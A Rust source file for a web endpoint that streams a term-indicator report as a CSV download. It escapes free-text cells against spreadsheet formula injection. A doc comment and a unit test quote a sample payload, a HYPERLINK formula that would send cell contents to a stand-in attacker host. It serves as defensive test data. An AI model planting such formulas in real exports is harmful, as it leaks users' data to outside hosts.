//! `GET /reports/term-indicators.csv`: the term report as a spreadsheet, one row per target and
//! result year, each with what makes it uncertain (stated status, approximate, conflicting
//! figures, data-quality codes). UTF-8 with a byte-order mark (so that Excel shows Vietnamese
//! correctly), a header row, decimals written as GraphQL writes them (a dot, no thousands
//! separator, no trailing zeros), unknown values as empty cells. Errors are 4xx with a plain
//! message.

use crate::App;
use crate::admission::ClientKey;
use crate::domain::report;
use crate::domain::targets::{computed_percent_of, decimal_text, stored_decimal};
use crate::domain::{roman, time};
use crate::error::ApiError;
use crate::graphql::ids::{self, NodeType};
use crate::graphql::mutation::Caller;
use crate::store::targets::{self, ReportScope, RowKey};
use crate::store::{ReadConn, related};
use axum::Extension;
use axum::body::{Body, Bytes};
use axum::extract::{ConnectInfo, Query, State};
use axum::http::{HeaderMap, StatusCode, header};
use axum::response::{IntoResponse, Response};
use chrono::Datelike;
use entity::{congress, data_quality_issue, organization, source, target, target_result};
use serde::Deserialize;
use std::collections::HashMap;
use std::net::SocketAddr;

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Params {
    organization_id: Option<String>,
    term_year: Option<String>,
    include_descendants: Option<String>,
}

const HEADER: [&str; 29] = [
    "organization_id",
    "organization",
    "congress",
    "term",
    "target_id",
    "target_number",
    "target",
    "measure",
    "comparator",
    "min_value",
    "max_value",
    "unit",
    "period",
    "assigned_by",
    "year_from",
    "year",
    "achieved",
    "planned",
    "out_of",
    "reported_percent",
    "computed_percent",
    "qualifier",
    "status",
    "source",
    "stated_status",
    "status_disagrees",
    "approximate",
    "conflicting_values",
    "data_quality",
];

fn plain(status: StatusCode, message: impl Into<String>) -> Response {
    (
        status,
        [(header::CONTENT_TYPE, "text/plain; charset=utf-8")],
        format!("{}\n", message.into()),
    )
        .into_response()
}

fn error_response(error: impl Into<ApiError>) -> Response {
    error.into().into_response()
}

pub async fn term_indicators(
    State(app): State<App>,
    headers: HeaderMap,
    peer: Option<Extension<ConnectInfo<SocketAddr>>>,
    Query(params): Query<Params>,
) -> Response {
    if !app.is_ready() {
        return plain(
            StatusCode::SERVICE_UNAVAILABLE,
            "the server is starting: its database is not ready yet",
        );
    }
    let caller = crate::http::auth_caller(&app, &headers).await;
    if app.config.restrict_reads && !matches!(caller, Caller::Authenticated(_)) {
        return plain(
            StatusCode::UNAUTHORIZED,
            "this server requires a token for reads: send Authorization: Bearer <token>",
        );
    }
    let token = match &caller {
        Caller::Authenticated(actor) => actor.token_id,
        _ => None,
    };
    let address = crate::http::client_address(&app, &headers, peer.map(|Extension(ConnectInfo(peer))| peer));
    let client = ClientKey::of(token, address);
    let Some(id) = params.organization_id.as_deref().filter(|id| !id.trim().is_empty()) else {
        return plain(
            StatusCode::BAD_REQUEST,
            "organizationId is required, e.g. ?organizationId=<ID>&termYear=2022",
        );
    };
    let organization_id = match ids::decode_as(id, NodeType::Organization, "organizationId") {
        Ok(key) => key,
        Err(error) => return error_response(error),
    };
    let year = match params.term_year.as_deref().map(str::trim) {
        None | Some("") => time::today().year(),
        Some(text) => match text.parse::<i32>() {
            Ok(year) => year,
            Err(_) => {
                return plain(
                    StatusCode::BAD_REQUEST,
                    format!("termYear must be a year such as 2022, not \"{text}\""),
                );
            }
        },
    };
    let include_descendants = match params.include_descendants.as_deref().map(str::trim) {
        None | Some("") | Some("false") | Some("0") => false,
        Some("true") | Some("1") => true,
        Some(other) => {
            return plain(
                StatusCode::BAD_REQUEST,
                format!("includeDescendants must be true or false, not \"{other}\""),
            );
        }
    };
    // A report with descendants waits for its turn, held until the CSV is rendered.
    let permit = if include_descendants {
        match app.pipeline.report_gate().admit(&client).await {
            Ok(permit) => Some(permit),
            Err(refusal) => {
                let mut response = plain(StatusCode::SERVICE_UNAVAILABLE, refusal.message());
                response
                    .headers_mut()
                    .insert(header::RETRY_AFTER, axum::http::HeaderValue::from_static("5"));
                return response;
            }
        }
    } else {
        None
    };
    if let Err(error) = report::check_year(year) {
        return error_response(error);
    }
    let conn = ReadConn::Pool(app.db.read_conn().clone());
    match related::by_id::<organization::Model>(&conn, "organizations", &[organization_id]).await {
        Ok(found) if !found.is_empty() => {}
        Ok(_) => return error_response(ApiError::not_found("organization")),
        Err(error) => return error_response(error),
    }
    let scope = ReportScope {
        organization_id,
        include_descendants,
        year,
    };
    // The rows are written as they are read, a page at a time, into a bounded channel: a
    // province's export (a hundred thousand lines) holds one page in memory, and a slow client
    // slows the reading down instead of letting it pile up.
    let (sender, receiver) = tokio::sync::mpsc::channel::<Result<Bytes, std::io::Error>>(4);
    tokio::spawn(async move {
        // The report's turn is held until the last line is written.
        let _permit = permit;
        if let Err(error) = write_csv(&conn, &scope, &sender).await {
            // The client sees the download fail, not a file that silently stops short.
            error.log_if_internal();
            let _ = sender.send(Err(std::io::Error::other(error.message()))).await;
        }
    });
    let file_name = format!("term-indicators-{year}.csv");
    (
        StatusCode::OK,
        [
            (header::CONTENT_TYPE, "text/csv; charset=utf-8".to_owned()),
            (
                header::CONTENT_DISPOSITION,
                format!("attachment; filename=\"{file_name}\""),
            ),
        ],
        Body::from_stream(tokio_stream::wrappers::ReceiverStream::new(receiver)),
    )
        .into_response()
}

/// Targets read and written per page of the export.
const CSV_PAGE: u64 = 500;

/// Writes the export: the byte-order mark and header, then the rows a page at a time.
async fn write_csv(
    conn: &ReadConn,
    scope: &ReportScope,
    sender: &tokio::sync::mpsc::Sender<Result<Bytes, std::io::Error>>,
) -> Result<(), ApiError> {
    // The byte-order mark tells Excel the file is UTF-8.
    let mut head = b"\xEF\xBB\xBF".to_vec();
    {
        let mut writer = csv_writer(&mut head);
        writer.write_record(HEADER).map_err(ApiError::internal)?;
        writer.flush().map_err(ApiError::internal)?;
    }
    if sender.send(Ok(Bytes::from(head))).await.is_err() {
        return Ok(());
    }
    let mut after: Option<RowKey> = None;
    loop {
        let page = targets::page(conn, scope, after.as_ref(), CSV_PAGE).await?;
        let Some(last) = page.last() else {
            return Ok(());
        };
        after = Some(RowKey::of(last));
        let chunk = render_page(conn, &page).await?;
        if sender.send(Ok(Bytes::from(chunk))).await.is_err() {
            // The client went away.
            return Ok(());
        }
    }
}

fn csv_writer(out: &mut Vec<u8>) -> csv::Writer<&mut Vec<u8>> {
    csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .has_headers(false)
        .from_writer(out)
}

/// The number of a target among its siblings, with its parents': "3.1".
fn target_number(target: &target::Model, targets: &HashMap<i64, target::Model>) -> String {
    let mut parts = vec![target.ordinal.to_string()];
    let mut parent = target.parent_id;
    while let Some(id) = parent {
        match targets.get(&id) {
            Some(up) => {
                parts.push(up.ordinal.to_string());
                parent = up.parent_id;
            }
            None => break,
        }
    }
    parts.reverse();
    parts.join(".")
}

/// The lines of one page of targets: one per target and result year, or one for a target
/// without results.
async fn render_page(conn: &ReadConn, page: &[target::Model]) -> Result<Vec<u8>, ApiError> {
    let ids = |f: &dyn Fn(&target::Model) -> Option<i64>| -> Vec<i64> { page.iter().filter_map(f).collect() };
    let organization_ids = ids(&|t| Some(t.organization_id));
    let congress_ids = ids(&|t| t.congress_id);
    let target_ids = ids(&|t| Some(t.id));
    let results: HashMap<i64, Vec<target_result::Model>> = related::results_of_targets(conn, &target_ids)
        .await?
        .into_iter()
        .fold(HashMap::new(), |mut map, (target, result)| {
            map.entry(target).or_insert_with(Vec::new).push(result);
            map
        });
    let source_ids: Vec<i64> = results.values().flatten().filter_map(|r| r.source_id).collect();
    let organizations: HashMap<i64, organization::Model> =
        related::by_id::<organization::Model>(conn, "organizations", &organization_ids)
            .await?
            .into_iter()
            .collect();
    let congresses: HashMap<i64, congress::Model> =
        related::by_id::<congress::Model>(conn, "congresses", &congress_ids)
            .await?
            .into_iter()
            .collect();
    let sources: HashMap<i64, source::Model> = related::by_id::<source::Model>(conn, "sources", &source_ids)
        .await?
        .into_iter()
        .collect();
    let targets = with_ancestors(conn, page).await?;
    let mut issues: HashMap<i64, Vec<data_quality_issue::Model>> = HashMap::new();
    for (target, issue) in related::issues_of_target_rows(conn, &target_ids).await? {
        issues.entry(target).or_default().push(issue);
    }

    let mut out = Vec::with_capacity(page.len() * 256);
    {
        let mut writer = csv_writer(&mut out);
        for target in page {
            let organization = organizations.get(&target.organization_id);
            let congress = target.congress_id.and_then(|id| congresses.get(&id));
            // Unknown stays unknown: no ordinal, no congress or no term is an empty cell, never
            // a placeholder or a span made of the target's own years.
            let congress_name = congress
                .and_then(|c| c.ordinal)
                .and_then(|n| roman::to_roman(i64::from(n)))
                .unwrap_or_default();
            let term = congress
                .map(|c| format!("{}-{}", c.term_start_year, c.term_end_year))
                .unwrap_or_default();
            let fixed = [
                ids::encode(NodeType::Organization, target.organization_id).0,
                spreadsheet_text(organization.map(|o| o.name.as_str()).unwrap_or_default()),
                congress_name,
                term,
                ids::encode(NodeType::Target, target.id).0,
                target_number(target, &targets),
                spreadsheet_text(&target.text),
                enum_text(target.measure),
                enum_text(target.comparator),
                decimal_cell(target.min_value.as_deref()),
                decimal_cell(target.max_value.as_deref()),
                spreadsheet_text(target.unit.as_deref().unwrap_or_default()),
                enum_text(target.period),
                enum_text(Some(target.assigned_by)),
            ];
            let stored = issues.get(&target.id).map(Vec::as_slice).unwrap_or_default();
            // A line carries the warnings of its target and of its own result.
            let stored_rules = |result: Option<i64>| {
                stored
                    .iter()
                    .filter(move |issue| {
                        issue.record_type == "target"
                            || (issue.record_type == "target_result" && Some(issue.record_id) == result)
                    })
                    .map(|issue| issue.rule.as_str())
            };
            let rows = results.get(&target.id).map(Vec::as_slice).unwrap_or_default();
            if rows.is_empty() {
                let assessment = report::Assessment::no_data();
                let mut record: Vec<String> = fixed.to_vec();
                record.extend(["", "", "", "", "", "", "", ""].map(str::to_owned));
                record.push(enum_text(Some(assessment.status)));
                record.push(String::new());
                record.extend(assessment_cells(&assessment, stored_rules(None)));
                writer.write_record(&record).map_err(ApiError::internal)?;
            }
            for result in rows {
                let assessment = report::assess_result(target, result, rows);
                let mut record: Vec<String> = fixed.to_vec();
                record.extend([
                    result.year_from.to_string(),
                    result.year_to.to_string(),
                    decimal_cell(result.achieved.as_deref()),
                    decimal_cell(result.planned.as_deref()),
                    decimal_cell(result.out_of.as_deref()),
                    decimal_cell(result.reported_percent.as_deref()),
                    computed_percent_of(result).map(decimal_text).unwrap_or_default(),
                    enum_text(result.qualifier),
                    enum_text(Some(assessment.status)),
                    spreadsheet_text(
                        result
                            .source_id
                            .and_then(|id| sources.get(&id))
                            .map(|s| s.title.as_str())
                            .unwrap_or_default(),
                    ),
                ]);
                record.extend(assessment_cells(&assessment, stored_rules(Some(result.id))));
                writer.write_record(&record).map_err(ApiError::internal)?;
            }
        }
        writer.flush().map_err(ApiError::internal)?;
    }
    Ok(out)
}

/// A decimal as GraphQL writes it (`DecimalValue`): normalized, "187.5" and never "187.50", so
/// that the CSV and the API agree; text that is not a number is kept as stored.
fn decimal_cell(text: Option<&str>) -> String {
    match text {
        Some(text) => stored_decimal(Some(text)).map_or_else(|| text.to_owned(), decimal_text),
        None => String::new(),
    }
}

/// The cells after `source`: the stated status, whether it disagrees with `status`, whether
/// `status` is only approximate, the conflicting figures for the same span ("82.4; 86") and the
/// data-quality codes ("conflicting_figures; contradicts_same_source").
fn assessment_cells<'a>(assessment: &report::Assessment, stored_rules: impl Iterator<Item = &'a str>) -> [String; 5] {
    let flag = |value: bool| if value { "true" } else { "false" }.to_owned();
    [
        enum_text(assessment.stated_status),
        flag(assessment.status_disagrees),
        flag(assessment.approximate),
        assessment
            .conflicting
            .iter()
            .filter_map(|(_, value)| value.map(decimal_text))
            .collect::<Vec<_>>()
            .join("; "),
        report::quality_codes(stored_rules, assessment).join("; "),
    ]
}

/// The page's targets with every target above them (a sub-target's parent can be on an
/// earlier page), for their numbers.
async fn with_ancestors(conn: &ReadConn, page: &[target::Model]) -> Result<HashMap<i64, target::Model>, ApiError> {
    let mut targets: HashMap<i64, target::Model> = page.iter().map(|t| (t.id, t.clone())).collect();
    // Targets nest a level or two; the bound guards a corrupted chain.
    for _ in 0..8 {
        let missing: Vec<i64> = targets
            .values()
            .filter_map(|t| t.parent_id)
            .filter(|id| !targets.contains_key(id))
            .collect();
        if missing.is_empty() {
            break;
        }
        for (id, parent) in related::by_id::<target::Model>(conn, "targets", &missing).await? {
            targets.insert(id, parent);
        }
    }
    Ok(targets)
}

/// Text a spreadsheet shows as text: a cell that starts with `=`, `+`, `-` or `@` (after any
/// whitespace, such as a tab; or their full-width forms) is a formula to Excel and LibreOffice, and a name
/// such as `=HYPERLINK("http://evil.example/?x="&A1, "Chi bộ")` would run when the export is
/// opened. Such cells get a leading apostrophe, which spreadsheets hide and read as "text"
/// (OWASP's advice for CSV injection). Only free text is escaped: numbers are written by the
/// server itself, and "-5" is a number, not a formula.
fn spreadsheet_text(text: &str) -> String {
    let first = text.trim_start().chars().next();
    match first {
        Some('=' | '+' | '-' | '@' | '\u{FF1D}' | '\u{FF0B}' | '\u{FF0D}' | '\u{FF20}') => format!("'{text}"),
        _ => text.to_owned(),
    }
}

fn enum_text<T: serde::Serialize>(value: Option<T>) -> String {
    value
        .and_then(|v| serde_json::to_value(v).ok())
        .and_then(|v| v.as_str().map(str::to_owned))
        .unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::spreadsheet_text;

    #[test]
    fn cells_that_a_spreadsheet_would_run_are_kept_as_text() {
        for formula in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Chi bộ\")",
            "@SUM(A1:A9)",
            "+1+2",
            "-2+3",
            " =1+1",
            "\t=1",
            "\u{FF1D}1+1",
        ] {
            assert_eq!(spreadsheet_text(formula), format!("'{formula}"), "{formula}");
        }
        for text in ["Đảng bộ phường Cự Khối", "100% chi bộ", "", "a=b"] {
            assert_eq!(spreadsheet_text(text), text);
        }
    }
}
